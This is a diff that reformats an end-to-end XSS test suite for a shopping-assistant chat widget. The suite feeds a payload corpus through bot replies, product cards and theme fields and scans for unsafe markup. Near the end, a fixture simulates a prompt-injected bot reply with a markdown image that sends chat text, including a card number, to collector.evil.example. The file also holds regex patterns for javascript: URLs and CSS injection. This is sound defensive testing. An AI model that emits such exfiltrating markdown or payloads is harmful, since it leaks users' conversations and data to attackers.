@@ -14,9 +14,13 @@ import { installTripwires, tripped, unsafeMarkup } from './page-guards';
  * get a sample here and every vector in the unit tests (test/unit/theme/theme-xss.test.ts).
  */
 const FULL = process.env.XSS_FULL === '1';
-const corpus = JSON.parse(readFileSync(path.join(__dirname, '../../fixtures/xss-payloads.json'), 'utf8')) as { sources: { name: string; payloads: string[] }[] };
+const corpus = JSON.parse(readFileSync(path.join(__dirname, '../../fixtures/xss-payloads.json'), 'utf8')) as {
+  sources: { name: string; payloads: string[] }[];
+};
 const all = corpus.sources.flatMap((source) => source.payloads);
-const sample = corpus.sources.flatMap((source) => (FULL || source.payloads.length < 1000 ? source.payloads : source.payloads.filter((_, index) => index % 8 === 0)));
+const sample = corpus.sources.flatMap((source) =>
+  FULL || source.payloads.length < 1000 ? source.payloads : source.payloads.filter((_, index) => index % 8 === 0),
+);
 const every = (step: number) => all.filter((_, index) => index % step === 0);
 
 let session: E2eSession;
@@ -30,9 +34,22 @@ beforeAll(async () => {
   // The webhook answers "#<n>" with vector n as the reply's markdown, or "#<n>,<m>,..." with one card
   // per vector, each vector in every field of its card.
   fixtures.handle('/xss-webhook', (_request, response, body) => {
-    const indices = (/#([\d,]+)/.exec((JSON.parse(body) as { message: string }).message)?.[1] ?? '').split(',').map(Number);
+    const indices = (/#([\d,]+)/.exec((JSON.parse(body) as { message: string }).message)?.[1] ?? '')
+      .split(',')
+      .map(Number);
     if (mode === 'reply') return replyJson(response, { output: all[indices[0] ?? -1] ?? '' });
-    const products = indices.map((index) => all[index] ?? '').map((payload) => ({ title: payload, name: payload, description: payload, url: payload, productUrl: payload, image: payload, imageUrl: payload, price: payload }));
+    const products = indices
+      .map((index) => all[index] ?? '')
+      .map((payload) => ({
+        title: payload,
+        name: payload,
+        description: payload,
+        url: payload,
+        productUrl: payload,
+        image: payload,
+        imageUrl: payload,
+        price: payload,
+      }));
     replyJson(response, { reply: 'Cards', products });
   });
 });
@@ -48,8 +65,15 @@ async function openWidget(attributes = '') {
   opened.page.on('request', (request) => {
     if (!request.url().startsWith(fixtures.url) && !request.url().startsWith('data:')) outside.push(request.url());
   });
-  await opened.page.goto(fixtures.page(`/xss-${Math.random().toString(36).slice(2)}`, widgetPage(`webhook-url="/xss-webhook" typing-speed="0" persist="none" ${attributes}`)));
-  await opened.page.waitForFunction(() => document.querySelector('store-assistant')?.shadowRoot?.querySelector('.card'));
+  await opened.page.goto(
+    fixtures.page(
+      `/xss-${Math.random().toString(36).slice(2)}`,
+      widgetPage(`webhook-url="/xss-webhook" typing-speed="0" persist="none" ${attributes}`),
+    ),
+  );
+  await opened.page.waitForFunction(() =>
+    document.querySelector('store-assistant')?.shadowRoot?.querySelector('.card'),
+  );
   return opened;
 }
 
@@ -59,7 +83,11 @@ async function openWidget(attributes = '') {
  */
 function sendVectors(page: Page, groups: number[][]): Promise<{ index: number; found: string[] }[]> {
   return page.evaluate(async (list) => {
-    const el = document.querySelector('store-assistant') as HTMLElement & { sendMessage(text: string): boolean; newChat(): void; startChat(): void };
+    const el = document.querySelector('store-assistant') as HTMLElement & {
+      sendMessage(text: string): boolean;
+      newChat(): void;
+      startChat(): void;
+    };
     el.startChat();
     const bad: { index: number; found: string[] }[] = [];
     const scan = (root: ParentNode) =>
@@ -70,7 +98,8 @@ function sendVectors(page: Page, groups: number[][]): Promise<{ index: number; f
         for (const attribute of element.attributes) {
           const value = attribute.value.replace(/[\s\u0000-\u001f]+/g, '').toLowerCase();
           if (/^on/i.test(attribute.name) || attribute.name === 'style') found.push(`<${tag} ${attribute.name}>`);
-          if (/^(javascript|vbscript):/.test(value) || /^data:text/.test(value)) found.push(`<${tag} ${attribute.name}>`);
+          if (/^(javascript|vbscript):/.test(value) || /^data:text/.test(value))
+            found.push(`<${tag} ${attribute.name}>`);
         }
         return found;
       });
@@ -102,11 +131,16 @@ describe(`XSS through the real widget (${FULL ? 'every' : 'a sample of the'} ${F
   it('as bot replies: no script runs and no unsafe markup ends up in the shadow root', async () => {
     mode = 'reply';
     const { page, pageErrors } = await openWidget();
-    const bad = await sendVectors(page, sample.map((payload) => [all.indexOf(payload)]));
+    const bad = await sendVectors(
+      page,
+      sample.map((payload) => [all.indexOf(payload)]),
+    );
     // A vector may act late (an image's onerror after its failed load): nothing to wait for but time.
     // eslint-disable-next-line no-restricted-syntax -- a check that nothing happens needs a window
     await page.waitForTimeout(300);
-    expect(bad.map(({ index, found }) => `${JSON.stringify(all[index]).slice(0, 120)}: ${found.join(', ')}`)).toEqual([]);
+    expect(bad.map(({ index, found }) => `${JSON.stringify(all[index]).slice(0, 120)}: ${found.join(', ')}`)).toEqual(
+      [],
+    );
     expect(await unsafeMarkup(page)).toEqual([]);
     expect(await tripped(page)).toEqual([]);
     expect(pageErrors).toEqual([]);
@@ -120,11 +154,21 @@ describe(`XSS through the real widget (${FULL ? 'every' : 'a sample of the'} ${F
     const indices = sample.map((payload) => all.indexOf(payload));
     const groups = Array.from({ length: Math.ceil(indices.length / 12) }, (_, i) => indices.slice(i * 12, i * 12 + 12));
     const bad = await sendVectors(page, groups);
-    expect(bad.map(({ index, found }) => `${JSON.stringify(all[index]).slice(0, 120)}: ${found.join(', ')}`)).toEqual([]);
-    const links = await page.evaluate(() =>
-      [...(document.querySelector('store-assistant')?.shadowRoot?.querySelectorAll('.product-card a, .product-card img') ?? [])].map((element) => element.getAttribute('href') ?? element.getAttribute('src') ?? ''),
+    expect(bad.map(({ index, found }) => `${JSON.stringify(all[index]).slice(0, 120)}: ${found.join(', ')}`)).toEqual(
+      [],
     );
-    expect(links.filter((link) => !/^(https:|data:image\/(png|jpe?g|gif|webp|avif);base64,|http:\/\/127\.0\.0\.1)/.test(link))).toEqual([]);
+    const links = await page.evaluate(() =>
+      [
+        ...(document
+          .querySelector('store-assistant')
+          ?.shadowRoot?.querySelectorAll('.product-card a, .product-card img') ?? []),
+      ].map((element) => element.getAttribute('href') ?? element.getAttribute('src') ?? ''),
+    );
+    expect(
+      links.filter(
+        (link) => !/^(https:|data:image\/(png|jpe?g|gif|webp|avif);base64,|http:\/\/127\.0\.0\.1)/.test(link),
+      ),
+    ).toEqual([]);
     expect(await tripped(page)).toEqual([]);
     expect(pageErrors).toEqual([]);
   }, 900_000);
@@ -134,7 +178,16 @@ describe(`XSS through the real widget (${FULL ? 'every' : 'a sample of the'} ${F
     const vectors = every(FULL ? 5 : 25);
     const result = await page.evaluate(async (list) => {
       const el = document.querySelector('store-assistant') as HTMLElement & { importTheme(json: unknown): boolean };
-      const fields = ['brand-name', 'welcome-message', 'quick-actions', 'accent-color', 'primary-gradient', 'secondary-gradient', 'logo-url', 'badge-images'];
+      const fields = [
+        'brand-name',
+        'welcome-message',
+        'quick-actions',
+        'accent-color',
+        'primary-gradient',
+        'secondary-gradient',
+        'logo-url',
+        'badge-images',
+      ];
       const accepted: string[] = [];
       for (const vector of list) {
         for (const field of fields) el.setAttribute(field, vector);
@@ -142,7 +195,8 @@ describe(`XSS through the real widget (${FULL ? 'every' : 'a sample of the'} ${F
         el.importTheme({ brandName: vector, accentColor: vector, logoUrl: vector });
         for (const property of ['--sa-accent-color', '--sa-primary-gradient', '--sa-secondary-gradient']) {
           const value = el.style.getPropertyValue(property);
-          if (/[;{}\\]|url\(|var\(|expression\(|image-set\(|javascript:/i.test(value)) accepted.push(`${property}: ${value}`);
+          if (/[;{}\\]|url\(|var\(|expression\(|image-set\(|javascript:/i.test(value))
+            accepted.push(`${property}: ${value}`);
         }
       }
       return accepted;
@@ -166,10 +220,22 @@ describe(`XSS through the real widget (${FULL ? 'every' : 'a sample of the'} ${F
     });
     // A reply built by a prompt injection: the conversation smuggled into an image URL.
     await page.route(`${fixtures.url}/xss-webhook`, (route) =>
-      route.fulfill({ status: 200, contentType: 'application/json', body: JSON.stringify({ output: 'Done! ![order summary](https://collector.evil.example/p.gif?chat=my+card+is+4242) ![pixel](http://127.0.0.2/p.gif?x=1)' }) }),
+      route.fulfill({
+        status: 200,
+        contentType: 'application/json',
+        body: JSON.stringify({
+          output:
+            'Done! ![order summary](https://collector.evil.example/p.gif?chat=my+card+is+4242) ![pixel](http://127.0.0.2/p.gif?x=1)',
+        }),
+      }),
     );
     // Sending is refused while the first reply is awaited: it goes out once that has landed.
-    const sendSecond = () => page.evaluate(() => (document.querySelector('store-assistant') as HTMLElement & { sendMessage(text: string): boolean }).sendMessage('What did I order?'));
+    const sendSecond = () =>
+      page.evaluate(() =>
+        (document.querySelector('store-assistant') as HTMLElement & { sendMessage(text: string): boolean }).sendMessage(
+          'What did I order?',
+        ),
+      );
     await expect.poll(sendSecond, { timeout: PATIENCE_MS }).toBe(true);
     await page.locator('store-assistant .messages').getByText('order summary').waitFor();
     await afterFrames(page);
